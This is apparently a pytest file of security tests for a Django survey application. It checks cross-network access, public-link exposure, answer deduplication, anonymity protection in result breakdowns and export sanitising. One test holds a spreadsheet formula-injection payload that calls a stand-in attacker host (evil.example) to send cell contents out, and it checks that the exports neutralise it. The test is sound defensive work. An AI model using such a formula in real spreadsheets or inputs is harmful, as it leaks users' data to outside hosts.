"""What a coordinator of another network, a visitor with a link, or odd input must not get from a survey."""

import csv
import io

import openpyxl
from django.urls import reverse
from model_bakery import baker

from erasmi.networks.tests.factories import make_network
from erasmi.surveys.models import Question, Response
from erasmi.surveys.tests.factories import make_members, make_survey, scale_survey


def test_a_coordinator_of_another_network_reaches_none_of_a_surveys_pages(client, erfurt_network):
    survey = scale_survey(erfurt_network)
    stranger = baker.make("accounts.User", email="halle-coordinator@example.org")
    make_network("halle", stranger)
    client.force_login(stranger)
    for name in ("detail", "edit", "results", "results_csv", "results_xlsx", "answer", "compare"):
        assert client.get(reverse(f"surveys:{name}", args=["erfurt", survey.pk])).status_code == 404, name
        assert client.get(reverse(f"surveys:{name}", args=["halle", survey.pk])).status_code == 404, name
    assert client.post(reverse("surveys:wave", args=["erfurt", survey.pk])).status_code == 404
    assert client.get(reverse("surveys:profile", args=["erfurt"])).status_code == 404


def test_the_public_link_of_a_members_survey_opens_nothing(client, erfurt_network):
    survey = scale_survey(erfurt_network)
    assert client.get(reverse("surveys_public:public", args=[survey.token])).status_code == 404


def test_the_export_of_a_survey_titled_with_slashes_and_brackets_opens(client, erfurt_network, coordinator):
    survey = make_survey(erfurt_network, [(Question.Kind.TEXT, "Tell us")], title="Bilanz 1/2026: [Teil A]?")
    client.force_login(coordinator)
    response = client.get(reverse("surveys:results_xlsx", args=["erfurt", survey.pk]))
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet.title and "/" not in sheet.title


def test_a_formula_typed_as_an_answer_stays_text_in_the_exports(client, erfurt_network, coordinator):
    survey = make_survey(erfurt_network, [(Question.Kind.TEXT, "Tell us")])
    (person,) = make_members(erfurt_network, 1)
    client.force_login(person.user)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    client.post(reverse("surveys:answer", args=["erfurt", survey.pk]), {f"q{survey.questions.get().pk}": formula})
    assert Response.objects.count() == 1
    client.force_login(coordinator)
    text = client.get(reverse("surveys:results_csv", args=["erfurt", survey.pk]) + "?format=plain").content
    cells = [cell for row in csv.reader(io.StringIO(text.decode("utf-8-sig"))) for cell in row]
    assert formula not in cells and any(cell.endswith(formula) for cell in cells)
    workbook = client.get(reverse("surveys:results_xlsx", args=["erfurt", survey.pk])).content
    values = [c.value for row in openpyxl.load_workbook(io.BytesIO(workbook)).active.iter_rows() for c in row]
    assert formula not in values


def test_answering_twice_stores_one_response(client, erfurt_network):
    survey = scale_survey(erfurt_network)
    (person,) = make_members(erfurt_network, 1)
    client.force_login(person.user)
    path = reverse("surveys:answer", args=["erfurt", survey.pk])
    field = f"q{survey.questions.get().pk}"
    client.post(path, {field: "4"})
    client.post(path, {field: "1"})
    assert Response.objects.count() == 1


def test_a_double_click_on_copy_as_a_new_wave_makes_one_wave(client, erfurt_network, coordinator):
    from erasmi.surveys.models import Survey

    survey = scale_survey(erfurt_network)
    client.force_login(coordinator)
    page = client.get(reverse("surveys:detail", args=["erfurt", survey.pk]))
    once = page.context["wave_form"]["once"].value()
    assert f'value="{once}"' in page.content.decode()
    first = client.post(reverse("surveys:wave", args=["erfurt", survey.pk]), {"once": once})
    second = client.post(reverse("surveys:wave", args=["erfurt", survey.pk]), {"once": once})
    assert Survey.objects.filter(previous=survey).count() == 1
    assert first["Location"] == second["Location"]


def test_no_breakdown_gives_away_a_single_anonymous_answer_beside_the_mean_of_all(client, erfurt_network, coordinator):
    from erasmi.surveys import results, services

    survey = scale_survey(erfurt_network)
    question = survey.questions.get()
    for person in make_members(erfurt_network, 5, actor_type="authority", sector="state", prefix="s"):
        services.answer(survey, person, {question: 5})
    (lonely,) = make_members(erfurt_network, 1, actor_type="ngo", sector="non_state", prefix="n")
    services.answer(survey, lonely, {question: 1})
    # The mean of all six and the state actors' mean would tell the one non-state answer: (6 × 4.33 − 5 × 5) = 1.
    assert results.breakdowns(survey) == {}
    client.force_login(coordinator)
    assert "State actors" not in client.get(reverse("surveys:results", args=["erfurt", survey.pk])).content.decode()
    for person in make_members(erfurt_network, 4, actor_type="ngo", sector="non_state", prefix="more"):
        services.answer(survey, person, {question: 3})
    assert set(results.breakdowns(survey)[question.pk]) == {"state", "non_state"}


def test_migrant_organisations_beside_the_non_state_actors_give_away_no_small_rest(erfurt_network):
    from erasmi.networks.models import Organisation
    from erasmi.surveys import results, services

    survey = scale_survey(erfurt_network)
    question = survey.questions.get()
    migrant = Organisation.ActorType.MIGRANT_ORGANISATION
    for person in make_members(erfurt_network, 5, actor_type="authority", sector="state", prefix="s"):
        services.answer(survey, person, {question: 4})
    for person in make_members(erfurt_network, 5, actor_type=migrant, sector="non_state", prefix="mig"):
        services.answer(survey, person, {question: 5})
    (ngo,) = make_members(erfurt_network, 1, actor_type="ngo", sector="non_state", prefix="n")
    services.answer(survey, ngo, {question: 1})
    # Non-state six, migrant organisations five: their difference is the one NGO's answer.
    assert "migrant_org" not in results.breakdowns(survey).get(question.pk, {})


def test_an_odd_year_starts_the_self_assessment_of_this_year(client, erfurt_network, coordinator):
    from django.utils import timezone

    from erasmi.surveys.models import Survey

    client.force_login(coordinator)
    url = reverse("surveys:self_assessment", args=["erfurt"])
    for odd in ("99999999999", "-5", "abc"):
        assert client.post(url, {"year": odd}).status_code == 302
    assert list(Survey.objects.self_assessments().values_list("year", flat=True)) == [timezone.localdate().year]


def test_a_public_link_shows_visitors_no_list_of_the_networks_member_organisations(client, erfurt_network):
    survey = make_survey(
        erfurt_network,
        [(Question.Kind.SCALE, "How good is it?"), (Question.Kind.COOPERATION, "With whom?")],
        audience="public",
    )
    page = client.get(reverse("surveys_public:public", args=[survey.token]))
    assert page.status_code == 200
    body = page.content.decode()
    assert "How good is it?" in body
    assert "Caritas" not in body and "With whom?" not in body
    scale = survey.questions.get(kind=Question.Kind.SCALE)
    client.post(reverse("surveys_public:public", args=[survey.token]), {f"q{scale.pk}": "4"})
    assert Response.objects.filter(survey=survey).count() == 1
